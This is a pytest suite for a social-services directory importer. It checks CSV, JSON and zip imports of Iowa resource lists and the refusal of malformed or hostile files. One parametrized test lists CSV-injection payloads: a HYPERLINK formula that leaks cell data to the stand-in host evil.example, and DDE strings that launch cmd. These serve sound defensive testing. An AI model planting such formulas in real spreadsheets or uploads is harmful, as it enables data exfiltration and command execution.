"""Directories come in: three real lists, again and again, and files that mean harm."""

import io
import json
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from kinroad.interop.hsds.importing import import_resources
from kinroad.people.rules.viewer import Viewer
from kinroad.people.tests.factories import OrganizationFactory
from kinroad.resources.actions.correcting import know_better
from kinroad.resources.models import Double, Location, Phone, ResourceCorrection, ServiceAtLocation, Tag

pytestmark = pytest.mark.django_db
DATA = Path(__file__).resolve().parents[5] / "shared" / "data"
LISTS = [DATA / "resources" / f"iowa_{name}.csv" for name in ("211", "recovery_providers", "treatment_facilities")]
EXAMPLES = DATA / "hsds" / "examples"
real_lists = pytest.mark.skipif(not LISTS[0].is_file(), reason="../shared/data is not here")


@pytest.fixture
def iowa():
    return OrganizationFactory(state="IA", zone="America/Chicago")


def bring(path, organization, **more):
    paths = path if isinstance(path, list) else [path]
    return import_resources(paths=paths, organization=organization, **more)


def a_file(tmp_path, content, name="list.csv"):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def refused(result, word):
    assert result.refused
    assert word in result.sentences[0][1]
    assert not ServiceAtLocation.objects.exists()
    return True


@real_lists
def test_the_three_lists_of_iowa_come_in_and_a_second_time_changes_nothing(iowa):
    first = bring(LISTS, iowa)
    again = bring(LISTS, iowa)

    assert (first.read, first.created, first.left_out) == (556, 556, 0)
    assert (again.unchanged, again.created, again.updated, again.vanished, again.proposed) == (556, 0, 0, 0, 0)
    assert first.proposed == Double.objects.count() > 50
    assert not ServiceAtLocation.objects.exclude(joined_into=None).exists()


@real_lists
def test_a_point_in_new_york_does_not_move_a_clinic_of_iowa(iowa):
    result = bring(LISTS[1], iowa)

    assert [row for row, words in result.sentences if "far from the address" in words] == [10]
    assert ServiceAtLocation.objects.get(city="Orange City", agency_name__startswith="Plains").lon < -95


@real_lists
def test_a_dry_run_tells_the_same_and_writes_nothing(iowa):
    tried = bring(LISTS[0], iowa, dry_run=True)

    assert (tried.read, tried.created) == (277, 277)
    assert not ServiceAtLocation.objects.exists()
    assert tried.as_dict() == bring(LISTS[0], iowa).as_dict()


def test_columns_of_any_name_are_mapped_and_every_row_that_cannot_be_used_gets_a_sentence(iowa, tmp_path):
    path = a_file(
        tmp_path,
        "Helper;What;Tel;Town;ZIP;Dogs\nCedar House;Sober living;515-555-0100;Ames;50010;yes\n;;;;;\n"
        "Nobody;Legal help;;;;\nOak;Food pantry;515-555-0101;Ames;5001O;perhaps\nElm;Jobs;515 555 0102;Ames;50010;no\n"
        "Ash;Clothing;515 555 0103;Ames;50010;\nFir;Detox;515 555 0104;Ames;50010;\n",
    )

    result = bring(
        path, iowa, mapping={"Helper": "agency", "What": "service", "Tel": "phone", "Town": "city", "Dogs": "tag:pets"}
    )

    assert (result.read, result.created, result.left_out) == (6, 5, 1)
    assert [(problem.row, problem.why.value) for problem in result.problems] == [
        (4, "no-way"), (5, "zip-unread"), (5, "answer-unread"),
    ]  # fmt: skip
    place = ServiceAtLocation.objects.get(agency_name="Cedar House")
    assert set(Tag.objects.filter(service_at_location=place).values_list("code", flat=True)) == {
        "recovery_housing",
        "pets",
    }


def test_what_left_its_list_vanishes_and_comes_back(iowa, tmp_path):
    whole = "name,service,phone,city\nCedar,Beds,515-555-0100,Ames\nOak,Food pantry,515-555-0101,Ames\n"
    path = a_file(tmp_path, whole)
    bring(path, iowa)
    path.write_text(whole.rsplit("Oak", 1)[0])

    gone = bring(path, iowa)
    path.write_text(whole)
    back = bring(path, iowa)

    assert (gone.unchanged, gone.vanished) == (1, 1)
    assert (back.unchanged, back.updated) == (1, 1)
    assert ServiceAtLocation.objects.listed().count() == 2


def test_what_we_know_better_stays_through_every_import(iowa, tmp_path):
    path = a_file(tmp_path, "name,service,phone,city,fees\nCedar,Beds,515-555-0100,Ames,free\n")
    bring(path, iowa)
    by = Viewer.system(iowa.pk, iowa.zone)
    place = ServiceAtLocation.objects.get()
    know_better(row=place.service, by=by, name="Beds for tonight", fees_description="Ask first")
    know_better(row=place, by=by, phones=[["(515) 555-0199", "", "voice", ""]])

    path.write_text("name,service,phone,city,fees\nCedar,Beds,515-555-0177,Ames,five dollars\n")
    bring(path, iowa)
    again = bring(path, iowa)

    place.refresh_from_db()
    assert place.name == "Beds for tonight"
    assert place.service.fees_description == "Ask first"
    assert [phone.number for phone in Phone.objects.all()] == ["(515) 555-0199"]
    assert ResourceCorrection.objects.get(field="fees_description").imported == "five dollars"
    assert again.unchanged == 1


def test_a_confidential_column_hides_the_door_and_no_sentence_tells_it(iowa, tmp_path):
    path = a_file(
        tmp_path,
        "name,service,phone,street,city,zip,lat,lon,confidential\n"
        "Haven,Shelter,515-555-0100,77 Elm Street,Ankeny,50023,1,1,yes\n",
    )

    result = bring(path, iowa)

    location = Location.objects.get()
    assert location.confidential
    assert location.whole()["street"] == "77 Elm Street"
    assert "1, 1" not in str(result.sentences)
    assert not any(word in ServiceAtLocation.objects.get().words for word in ("elm", "ankeny"))
    assert bring(path, iowa).unchanged == 1


def test_one_bad_file_keeps_the_others_out(iowa, tmp_path):
    good = a_file(tmp_path, "name,service,phone\nCedar,Beds,515-555-0100\n", "good.csv")
    bad = a_file(tmp_path, b"\x00\x01\x02", "bad.csv")

    result = bring([good, bad], iowa)

    assert refused(result, "another one was refused")
    assert {each["file"] for each in result.as_dict()["problems"]} == {"good.csv", "bad.csv"}
    assert (result.read, result.created, result.left_out) == (1, 0, 1)


@pytest.mark.parametrize(
    "cell",
    [
     '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "+cmd|' /C calc'!A0", 
     "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0",
     " =IMPORTXML(A1)", "\t=1"],
)  # fmt: skip
def test_a_formula_is_refused(iowa, tmp_path, cell):
    quoted = '"' + cell.replace('"', '""') + '"'

    assert refused(bring(a_file(tmp_path, f"name,service,phone\n{quoted},Beds,515-555-0100\n"), iowa), "formula")


def test_a_number_below_zero_a_phone_and_a_kept_zero_are_no_formulas(iowa, tmp_path):
    path = a_file(
        tmp_path, 'name,service,phone,zip,lat,lon\nCedar,Beds,+1 515-555-0100,"=""50309""",41.59,-93.62\n-,-,-,-,-,-\n'
    )

    assert not bring(a_file(tmp_path, path.read_text().rsplit("\n-", 1)[0]), iowa).refused
    assert ServiceAtLocation.objects.get().zip == "50309"


HOSTILE = {
    "a cell of ten million letters": (
        b"name,service,phone\n" + b"a" * 10_000_000 + b",Beds,515-555-0100\n",
        "too long",
    ),
    "a quotation mark never closed": (b'name,service,phone\n"' + b"a,b\n" * 100_000, "too long"),
    "letters of another table": ("name,service,phone\n避難所,ベッド,515-555-0100\n".encode("shift_jis"), "UTF-8"),
    "sixteen bits without a mark": ("name,service,phone\nCedar,Beds,1\n".encode("utf-16-le"), "UTF-8"),
    "a NUL": (b"name,service,phone\nCed\x00ar,Beds,515-555-0100\n", "UTF-8"),
    "no words at all": (bytes(range(256)) * 20, "UTF-8"),
    "deep JSON": (b"[" * 1_000_000, "deeper"),
    "deep objects": (b'{"a":' * 500_000 + b"1" + b"}" * 500_000, "deeper"),
    "a number that is none": (b'[{"name": "x", "status": NaN}]', "could not read"),
    "JSON of something else": (b'{"hello": "world"}', "could not read"),
    "no columns": (b"a,b\n1,2\n3,4\n", "column for the name"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(500), "UTF-8"),
    "nothing": (b"  \n ", "no resources"),
    "a thousand columns": (b"name," * 1000 + b"\n", "could not read"),
}


@pytest.mark.parametrize(("content", "word"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence_quickly_and_in_little_memory(iowa, tmp_path, content, word):
    path = a_file(tmp_path, content)
    tracemalloc.start()
    began = time.perf_counter()

    result = bring(path, iowa)

    assert time.perf_counter() - began < 10
    assert tracemalloc.get_traced_memory()[1] < 250_000_000
    tracemalloc.stop()
    assert refused(result, word)


def packed(**files):
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(f"{name}.csv", content)
    return whole.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_opened(iowa, tmp_path):
    bomb = packed(services=b"0" * 300_000_000, organizations=b"id,name\n")

    assert refused(bring(a_file(tmp_path, bomb, "x.zip"), iowa), "unpacks into far more")


def test_a_zip_that_lies_about_its_size_or_is_broken_is_refused(iowa, tmp_path):
    honest = packed(services=b"id,name\n1,Beds\n", organizations=b"id,name\n1,Cedar\n")

    assert refused(bring(a_file(tmp_path, honest[: len(honest) // 2], "x.zip"), iowa), "could not read")
    assert refused(bring(a_file(tmp_path, packed(other=b"id\n"), "y.zip"), iowa), "could not read")


@real_lists
@pytest.mark.parametrize("name", ["service_full", "service_at_location_full", "organization_full"])
def test_the_examples_of_hsds_come_in(iowa, name):
    result = bring(EXAMPLES / f"{name}.json", iowa)

    assert (result.read, result.created, result.refused) == (1, 1, False)
    assert ServiceAtLocation.objects.get().name == "Community Counselling"
    assert bring(EXAMPLES / f"{name}.json", iowa).unchanged == 1


@real_lists
def test_the_tables_of_hsds_come_in_from_a_folder_and_a_zip(iowa, tmp_path):
    tables = {path.stem: path.read_bytes() for path in (EXAMPLES / "csv").glob("*.csv")}

    folder = bring(EXAMPLES / "csv", iowa, source="tables")
    zipped = bring(a_file(tmp_path, packed(**tables), "tables.zip"), iowa, source="tables")

    assert (folder.read, folder.created) == (1, 1)
    assert zipped.unchanged == 1


def test_entries_that_are_no_services_are_told(iowa, tmp_path):
    service = {"id": "1", "name": "Beds", "status": "active", "organization": {"id": "2", "name": "Cedar"}}
    many = [{**service, "id": str(number)} for number in range(9)]
    path = a_file(
        tmp_path, json.dumps({"contents": [*many, 7, {"id": "3", "name": "Alone", "status": "active"}]}), "x.json"
    )

    result = bring(path, iowa)

    assert (result.read, result.created, result.left_out) == (11, 9, 2)
    assert "not a service" in result.sentences[0][1]
    assert "Alone" in result.sentences[1][1]
